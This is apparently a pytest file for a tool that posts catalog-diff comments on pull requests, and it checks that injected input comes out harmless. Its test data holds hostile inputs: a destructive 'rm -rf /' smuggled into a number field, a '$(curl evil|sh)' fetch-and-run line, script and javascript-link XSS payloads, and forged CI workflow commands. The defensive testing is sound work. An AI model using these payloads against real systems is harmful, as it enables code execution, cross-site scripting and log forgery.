"""The pull-request comment: rendered by trusted code from the diff JSON an unprivileged
run produced, posted once and updated in place through the Forge seam, and harmless
whatever the pull request holds."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from generator.cli import main
from generator.commands.comment import run_comment
from generator.commands.diff import compute, render
from generator.config import load_config
from generator.forge import Comment, ForgeError
from generator.forge.fake import FakeForge
from generator.gitops.artifact import ArtifactError
from generator.gitops.diff import as_json
from generator.gitops.report import MARKER
from tests.gitops_repo import Repo, build_history, component, git, golden

AUTHOR = "portal-bot"  # FakeForge's login


@pytest.fixture
def repo(tmp_path: Path) -> Repo:
    return build_history(tmp_path / "repo")


def _pr(repo: Repo, files: dict[str, str | None], message: str = "Change things") -> str:
    """A pull-request branch off main with ``files`` changed; its head commit."""
    git(repo.root, "checkout", "-q", "-b", "pr", "main")
    for name, text in files.items():
        path = repo.root / name
        if text is None:
            path.unlink()
        else:
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text, encoding="utf-8")
    git(repo.root, "add", "-A")
    identity = {"GIT_AUTHOR_NAME": "Eve", "GIT_AUTHOR_EMAIL": "e@x", "GIT_COMMITTER_NAME": "Eve",
                "GIT_COMMITTER_EMAIL": "e@x", "GIT_AUTHOR_DATE": "2026-02-01T12:00:00+00:00",
                "GIT_COMMITTER_DATE": "2026-02-01T12:00:00+00:00"}  # fmt: skip
    git(repo.root, "commit", "-qm", message, env=identity)
    head = git(repo.root, "rev-parse", "HEAD").strip()
    git(repo.root, "checkout", "-q", "main")
    return head


def _artifact(repo: Repo, tmp_path: Path, head: str, number: int) -> tuple[Path, Path]:
    """What the pull_request workflow uploads: the diff as JSON and the PR number."""
    d = compute(repo.root, "main", head)
    diff_file, number_file = tmp_path / "diff.json", tmp_path / "number"
    diff_file.write_text(json.dumps(as_json(d)), encoding="utf-8")
    number_file.write_text(f"{number}\n", encoding="utf-8")
    return diff_file, number_file


def _forge(head: str, title: str = "Change things") -> tuple[FakeForge, int]:
    forge = FakeForge()
    forge.add_repo("acme/portal")
    forge.repos["acme/portal"].branches["pr"] = head
    pull = forge.open_pull("acme/portal", head="pr", base="main", title=title, body=title)
    return forge, pull.number


def _post(repo: Repo, tmp_path: Path, forge: FakeForge, number: int, head: str) -> str:
    diff_file, number_file = _artifact(repo, tmp_path, head, number)
    out = tmp_path / "out.txt"
    with out.open("w") as stream:
        code = run_comment(
            load_config(repo.root), repo="acme/portal", number_file=number_file,
            diff_file=diff_file, head_sha=head, author=AUTHOR, forge=forge, out=stream,
        )  # fmt: skip
    assert code == 0
    return out.read_text()


def test_one_comment_updated_in_place(repo: Repo, tmp_path: Path) -> None:
    web = component("web", "team-c", depends=("component:api-gw", "component:cart"))
    head = _pr(
        repo, {"catalog/web.yaml": web, "catalog/payments.yaml": component("payments", "team-b")}
    )
    forge, number = _forge(head)
    thread = forge.repos["acme/portal"].comments.setdefault(number, [])
    thread.append(Comment(1, MARKER + "\nsomeone else's comment with our marker", "mallory"))
    assert _post(repo, tmp_path, forge, number, head) == f"portal: comment created on #{number}\n"
    ours = [c for c in forge.comments("acme/portal", number) if c.author == AUTHOR]
    golden("comment-break.md", ours[0].body)
    # A second push: the same comment is updated, not repeated.
    git(repo.root, "checkout", "-q", "pr")
    (repo.root / "catalog/web.yaml").write_text(
        component("web", "team-c", depends=("component:api-gw",))
    )
    git(
        repo.root,
        "commit",
        "-qam",
        "fix",
        env={
            "GIT_AUTHOR_NAME": "E",
            "GIT_AUTHOR_EMAIL": "e@x",
            "GIT_COMMITTER_NAME": "E",
            "GIT_COMMITTER_EMAIL": "e@x",
        },
    )
    head2 = git(repo.root, "rev-parse", "HEAD").strip()
    git(repo.root, "checkout", "-q", "main")
    forge.repos["acme/portal"].branches["pr"] = head2
    assert _post(repo, tmp_path, forge, number, head2) == f"portal: comment updated on #{number}\n"
    assert (
        _post(repo, tmp_path, forge, number, head2) == f"portal: comment unchanged on #{number}\n"
    )
    bodies = [c.body for c in forge.comments("acme/portal", number)]
    assert len(bodies) == 2 and bodies[0].endswith("someone else's comment with our marker")
    assert "Breaks" not in bodies[1] and "component:default/payments" in bodies[1]


def test_no_comment_when_the_catalog_does_not_change(repo: Repo, tmp_path: Path) -> None:
    head = _pr(repo, {"notes.txt": "not the catalog\n"})
    forge, number = _forge(head)
    assert _post(repo, tmp_path, forge, number, head) == f"portal: comment skipped on #{number}\n"
    assert forge.comments("acme/portal", number) == []


def test_a_diff_of_another_head_is_not_posted(repo: Repo, tmp_path: Path) -> None:
    """The number comes from the PR's own run: it cannot steer the comment elsewhere."""
    head = _pr(repo, {"catalog/api-gw.yaml": None})
    forge, number = _forge(repo.commits["initial"])
    out = _post(repo, tmp_path, forge, number, head)
    assert out.startswith(f"portal: not commenting: #{number} is at ")
    assert forge.comments("acme/portal", number) == []
    diff_file, number_file = _artifact(repo, tmp_path, head, 99)
    with pytest.raises(ForgeError, match="no pull request #99"):
        run_comment(load_config(repo.root), repo="acme/portal", number_file=number_file,
                    diff_file=diff_file, head_sha=head, forge=forge)  # fmt: skip


@pytest.mark.parametrize(
    ("number", "diff", "message"),
    [
        ("7; rm -rf /", "{}", "should hold a pull request number"),
        ("0", "{}", "should hold a pull request number"),
        ("7", "[]", "not a JSON object"),
        ("7", "{nope", "is not JSON"),
        ("7", '{"base": "$(x)"}', "not a commit"),
        ("7", '{"base": null, "head": null, "added": [1]}', "should be strings"),
    ],
)
def test_malformed_artifacts_are_refused(
    tmp_path: Path, number: str, diff: str, message: str
) -> None:
    (tmp_path / "n").write_text(number)
    (tmp_path / "d.json").write_text(diff)
    with pytest.raises(ArtifactError, match=re.escape(message)):
        run_comment(load_config(tmp_path), repo="acme/portal", number_file=tmp_path / "n",
                    diff_file=tmp_path / "d.json", forge=FakeForge())  # fmt: skip


HOSTILE = (
    "@octocat #1 <script>alert(1)</script> <img src=x onerror=alert(2)> $(curl evil|sh) "
    "``x`` [a](javascript:alert(3)) \u202eevil\n::error::forged\r\n::stop-commands::tok"
)


def _hostile_entity() -> str:
    text = json.dumps(HOSTILE)
    return f"""\
apiVersion: backstage.io/v1alpha1
kind: Component
metadata:
  name: evil
  title: {text}
  description: {text}
  annotations:
    {json.dumps("x.io/" + HOSTILE)}: {text}
  tags: [{text}]
  links:
    - url: {json.dumps("javascript:alert(1)//" + HOSTILE)}
      title: {text}
spec:
  type: {text}
  lifecycle: {text}
  owner: {json.dumps("group:default/" + HOSTILE)}
  dependsOn: [{json.dumps("component:" + HOSTILE)}, component:orders]
"""


def test_hostile_text_is_harmless(repo: Repo, tmp_path: Path) -> None:
    head = _pr(
        repo,
        {
            "catalog/@octocat `$(x)` <b>\n::error::f.yaml": _hostile_entity(),
            "catalog/api-gw.yaml": component(
                "api-gw", "team-b", description=json.dumps(HOSTILE), depends=("component:orders",)
            ),
        },
        message=HOSTILE,
    )
    forge, number = _forge(head, title=HOSTILE)
    _post(repo, tmp_path, forge, number, head)
    (comment,) = forge.comments("acme/portal", number)
    body = comment.body
    assert HOSTILE.split("\n")[0] not in body or "`" in body  # only ever inside code spans
    for line in body.splitlines():
        assert not line.startswith("::"), line
    html = MarkdownIt("commonmark", {"html": True}).render(body)
    assert "<script" not in html and "<img" not in html and "<b>" not in html
    assert 'href="javascript' not in html
    # Every @mention, '::' command and '$(' in the rendered text is inside <code>.
    text_outside_code = re.sub(r"<code>.*?</code>", "", html, flags=re.S)
    for needle in ("@octocat", "::error", "::stop-commands", "$(curl", "#1 ", "\u202e"):
        assert needle not in text_outside_code, needle
    assert "\u202e" not in body  # shown as an escape, so it cannot reorder what is read
    # Tags allowed are ours only.
    assert set(re.findall(r"<(/?[a-z0-9]+)", html)) <= {
        "p",
        "/p",
        "h3",
        "/h3",
        "h4",
        "/h4",
        "ul",
        "/ul",
        "li",
        "/li",
        "code",
        "/code",
        "strong",
        "/strong",
        "details",
        "/details",
        "summary",
        "/summary",
        "a",
        "/a",
    }
    # The text report in a CI log cannot forge a workflow command either.
    report = render(compute(repo.root, "main", head), "text", load_config(repo.root))
    for line in report.splitlines():
        assert not line.lstrip().startswith("::"), line
    assert "\r" not in report and "\u202e" not in report


def test_dry_run_prints_and_posts_nothing(
    repo: Repo, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    head = _pr(repo, {"catalog/api-gw.yaml": None})
    diff_file, number_file = _artifact(repo, tmp_path, head, 3)
    argv = ["--root", str(repo.root), "comment", "--repo", "acme/portal", "--number-file",
            str(number_file), "--diff", str(diff_file), "--dry-run"]  # fmt: skip
    assert main(argv) == 0
    out = capsys.readouterr().out
    assert out.startswith("portal: would post on #3:\n" + MARKER)
    assert "component:default/api-gw" in out
